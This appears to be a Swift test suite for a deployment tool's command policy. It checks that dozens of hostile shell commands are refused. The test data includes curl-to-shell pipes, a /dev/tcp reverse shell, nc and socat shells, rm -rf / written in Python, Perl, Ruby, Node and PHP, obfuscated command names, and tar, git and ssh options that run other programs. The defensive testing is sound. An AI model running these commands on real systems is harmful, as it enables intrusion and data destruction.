// Tiangong Deploy
// SPDX-License-Identifier: Apache-2.0

import Core
import Testing

/// V4, V6, D8 and D9: programs that nobody can see, and programs in programs.
@Suite struct PolicyProgramTests {
    static let pipes: [String] = [
        "curl -s http://x/i.sh | sh", "curl http://x | bash", "curl http://x | sudo bash", "curl http://x | bash -s",
        "curl http://x | bash -s -- -y", "curl http://x | bash -", "curl http://x | sh -x",
        "curl http://x | /bin/sh", "cat x | dash", "cat x | zsh", "cat x | ksh", "cat x | env bash",
        "cat x | nohup bash", "cat x | sudo -u app sh", "cat x | tee /tmp/y | sh", "cat x | { sh; }", "cat x | (sh)",
        "cat x | while true; do sh; done", "cat x | python3", "cat x | python3 -", "cat x | python",
        "cat x | python3.11 -u", "cat x | perl", "cat x | perl -w", "cat x | ruby", "cat x | node", "cat x | php",
        "cat x | lua", "cat x | busybox sh", "cat x | xargs sh", "ls | xargs bash", "ls | xargs -n1 sh",
        "ls | xargs python3", "cat x | at now", "echo reboot | at now + 1 minute", "cat x | batch",
        "cat x | ssh host", "cat x | ssh host sh", "cat x | ssh host bash -s", "cat x | docker exec -i c sh",
        "cat x | kubectl exec -i p -- sh", "cat x | su - app", "cat x | sudo -i", "cat x | sudo -s",
        "cat x | chroot /x", "cat x | bash /dev/stdin", "cat x | source /dev/stdin", "cat x | . /dev/stdin",
        "bash <(curl -s x)", "source <(curl -s x)", ". <(curl x)", "bash < <(curl -s x)", "cat x | tee >(sh)",
        "python3 <(curl x)", "cat x | awk -f -", "cat x | parallel", "echo 'ls' | sh", "printf 'x' | bash",
        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", "cat x |& bash", "f() { sh; }; cat x | f", "base64 -d x | sh",
        "echo aGk= | base64 -d | bash", "exec bash < <(curl x)",
    ]

    @Test(arguments: pipes) func `a program does not come through a pipe`(command: String) {
        Judged(command, .blacklistDefault).isRefused(by: "D8")
    }

    static let interpreted: [String] = [
        "python3 -c \"import os; os.system('rm -rf /')\"",
        "python -c 'import subprocess; subprocess.call([\"rm\",\"-rf\",\"/\"])'",
        "python3 -c 'import subprocess; subprocess.run([\"reboot\"])'",
        "python3 -c \"__import__('os').system('shutdown -h now')\"",
        "python3 -c \"import os; os.execvp('rm', ['rm','-rf','/'])\"",
        "python3 -c \"import shutil; shutil.rmtree('/')\"", "python3 -c \"import shutil; shutil.rmtree('/etc')\"",
        "perl -e 'system(\"rm -rf /\")'", "perl -e 'exec \"reboot\"'", "perl -e '`rm -rf /`'",
        "perl -e 'qx{rm -rf /}'", "perl -we 'system(\"rm\",\"-rf\",\"/\")'", "perl -MFile::Path -e 'rmtree(\"/\")'",
        "ruby -e 'system(\"rm -rf /\")'", "ruby -e '`reboot`'", "ruby -e '%x(reboot)'",
        "ruby -rfileutils -e 'FileUtils.rm_rf(\"/\")'", "node -e 'require(\"child_process\").execSync(\"reboot\")'",
        "node --eval 'require(\"child_process\").exec(\"rm -rf /\")'",
        "node -e \"require('fs').rmSync('/', {recursive:true})\"", "php -r 'system(\"rm -rf /\");'",
        "php -r 'exec(\"reboot\");'", "php -r 'shell_exec(\"shutdown now\");'", "lua -e 'os.execute(\"reboot\")'",
        "sudo python3 -c \"import os; os.system('reboot')\"", "python3.11 -c \"import os; os.system('reboot')\"",
        "python3 -Sc \"import os; os.system('reboot')\"", "python3 <<E\nimport os\nos.system('rm -rf /')\nE",
        "sh -c \"python3 -c \\\"import os; os.system('reboot')\\\"\"", "deno eval 'new Deno.Command(\"reboot\")'",
        "php -r '`reboot`;'",
    ]

    @Test(arguments: interpreted) func `acts in other languages are found`(command: String) {
        Judged(command, .blacklistDefault).isRefused(by: "D9")
    }

    static let unknown: [String] = [
        "X=rm; $X -rf /", "$X -rf /", "${X} -rf /", "\"$X\" a", "$(echo rm) -rf /", "`echo rm` -rf /",
        "$(which rm) -rf /", "r$@m -rf /", "r${x}m -rf /", "rm$IFS-rf$IFS/", "/???/rm -rf /", "/bin/r? -rf /",
        "{rm,-rf,/}", "r{m,} -rf /", "/bin/[r]m -rf /", "sudo $X", "env $X -rf /", "timeout 5 $CMD", "$0", "$1",
        "\"$@\"", "$*", "xargs $X", "find . -exec $X {} \\;", "find . -exec {} \\;", "\"\"", "nohup $X &",
        "r\u{435}boot", "\u{ff52}\u{ff4d} -rf /", "l*", "ssh h \"$X\"", "$((1))", "exec \"$@\"",
    ]

    @Test(arguments: unknown) func `the name of a program is written out`(command: String) {
        Judged(command, .blacklistDefault).isRefused(by: "V4")
    }

    static let expanded: [String] = [
        "sh -c \"$X\"", "sh -c $X", "bash -c \"$(curl -s http://x)\"", "bash -c \"`curl x`\"", "eval \"$X\"",
        "eval $X", "eval \"$(curl -s x)\"", "eval `ssh-agent`", "bash -c \"rm $X\"", "trap \"$X\" EXIT",
        "su -c \"$X\"", "env -S \"$X\"", "xargs sh -c", "watch \"$X\"", "bash <<< \"$X\"", "bash <<E\n$X\nE",
        "sudo bash -c \"$X\"", "script -c \"$X\"", "flock /tmp/l -c \"$X\"",
    ]

    @Test(arguments: expanded) func `the text of a program is written out`(command: String) {
        Judged(command, .blacklistDefault).isRefused(by: "V6")
    }

    static let runners: [String] = [
        "tar --checkpoint=1 --checkpoint-action=exec=id -cf x y", "tar -I 'sh -c id' -xf x",
        "tar --to-command=id -xf x", "tar --use-compress-program=id -xf x", "tar xf x --to-comm=id",
        "git -c core.pager=id log", "git -c alias.x='!id' x", "git -c core.sshCommand=id fetch", "git clone ext::sh",
        "git rebase --exec id", "git bisect run id", "git submodule foreach id", "sed '1e id' x", "sed 's/a/b/e' x",
        "sed -n 'e' x", "sed -e p -e 'e id' x", "vim -c ':!id' x", "vim +':!id' x", "rsync -e id a b",
        "rsync --rsh=id a b", "ssh -o ProxyCommand=id x", "ssh -oProxyCommand=id x",
        "ssh -o LocalCommand=id -o PermitLocalCommand=yes x", "scp -S id a b:", "find . -fprintf /tmp/x y",
        "find . -fprint /tmp/x", "zip -TT id x y", "tcpdump -z id", "man -P id ls", "nc -e /bin/sh h 1",
        "socat TCP:h:1 EXEC:sh", "split --filter=id x", "sort --compress-program=id x", "awk '{system($1)}' x",
        "awk '{print | $1}' x", "mysql -e '\\! id'", "psql -c '\\! id'", "less '+!id' x",
    ]

    @Test(arguments: runners) func `no option runs another program where only plain commands may run`(command: String) {
        Judged(command, .noInjection).isRefused(by: "V6")
    }
}
